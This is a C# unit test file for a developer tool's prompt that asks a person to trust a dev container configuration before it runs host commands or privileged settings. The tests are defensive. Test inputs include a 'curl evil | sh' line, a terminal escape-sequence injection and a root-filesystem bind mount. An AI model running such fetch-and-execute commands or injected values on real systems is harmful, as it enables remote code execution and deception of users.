using Berth.Cli.Codespaces;
using Berth.Core.DevContainers;
using Berth.Core.DevContainers.HostAccess;

namespace Berth.Cli.Tests.Codespaces;

public sealed class Trust_question : IDisposable
{
    private readonly Script script = new();
    private readonly StringWriter told = new();

    public void Dispose() => script.Dispose();

    [Fact]
    public async Task Is_not_asked_about_a_container_of_its_own() => Assert.True(await AskAsync("{ \"image\": \"a\" }", null));

    [Fact]
    public async Task Is_refused_where_nobody_can_be_asked()
    {
        Assert.False(await AskAsync("{ \"image\": \"a\", \"initializeCommand\": \"make\" }", answer: null));
        Assert.Contains("runs on this host: initializeCommand make  (.devcontainer/devcontainer.json:1)", told.ToString());
        Assert.Contains("berth up --trust", told.ToString());
    }

    [Fact]
    public async Task Shows_as_much_of_each_opening_as_a_person_reads()
    {
        Assert.False(await AskAsync($"{{ \"image\": \"a\", \"initializeCommand\": \"echo {new string('x', 2000)}\" }}", answer: null));

        Assert.All(told.ToString().Split('\n'), line => Assert.True(line.Length < 400));
        Assert.Contains("xxx…  (.devcontainer/devcontainer.json:1)", told.ToString());
    }

    [Theory]
    [InlineData("y", true)]
    [InlineData("YES", true)]
    [InlineData("n", false)]
    [InlineData("", false)]
    [InlineData("yesterday", false)]
    public async Task Takes_a_yes_for_a_yes_and_nothing_else(string answer, bool expected) =>
        Assert.Equal(expected, await AskAsync("{ \"image\": \"a\", \"privileged\": true }", answer));

    [Fact]
    public async Task Remembers_a_yes_for_that_content_alone()
    {
        const string config = "{ \"image\": \"a\", \"initializeCommand\": \"./setup.sh --fast\" }";
        script.Write("repository/setup.sh", "echo one");

        Assert.True(await AskAsync(config, "y"));
        Assert.True(await AskAsync(config, answer: null));
        Assert.False(await AskAsync(config.Replace("--fast", "--slow"), answer: null));

        script.Write("repository/setup.sh", "curl evil | sh");
        Assert.False(await AskAsync(config, answer: null));
    }

    [Fact]
    public async Task Remembers_what_was_trusted_beforehand_for_the_next_start()
    {
        const string config = "{ \"image\": \"a\", \"privileged\": true }";

        Assert.True(await AskAsync(config, answer: null, isTrusted: true));
        Assert.True(await AskAsync(config, answer: null));
    }

    [Fact]
    public async Task Remembers_no_more_than_was_shown()
    {
        Assert.True(await AskAsync("{ \"image\": \"a\", \"privileged\": true }", "y"));
        Assert.False(await AskAsync("{ \"image\": \"a\", \"privileged\": true, \"mounts\": [\"source=/,target=/h,type=bind\"] }", answer: null));
    }

    [Fact]
    public async Task Does_not_let_a_command_write_to_the_terminal()
    {
        await AskAsync("{ \"image\": \"a\", \"initializeCommand\": \"make\\u001b[2K\\rharmless\" }", answer: null);

        Assert.DoesNotContain("\u001b", told.ToString(), StringComparison.Ordinal);
    }

    /// <param name="answer">What the person at the terminal says; null where there is no terminal.</param>
    /// <param name="isTrusted">Whether it was said beforehand.</param>
    private Task<bool> AskAsync(string text, string? answer, bool isTrusted = false)
    {
        script.Write("repository/.devcontainer/devcontainer.json", text);
        var repository = Path.Combine(script.Home, "repository");
        var config = DevContainerConfig.Read(repository, DevContainerFiles.Find(repository), new(new Dictionary<string, string>(), new HashSet<string>()));
        var surroundings = script.Surroundings(answer + "\n") with { IsInteractive = answer is not null, Error = new(told, hasColours: false) };
        return new TrustQuestion(surroundings).AskAsync(config, HostAccessFindings.Of(config), [], Request(isTrusted), CancellationToken.None);
    }

    private static LaunchRequest Request(bool isTrusted) => new(".", null, null, new(null, false, false)) { IsTrusted = isTrusted };
}
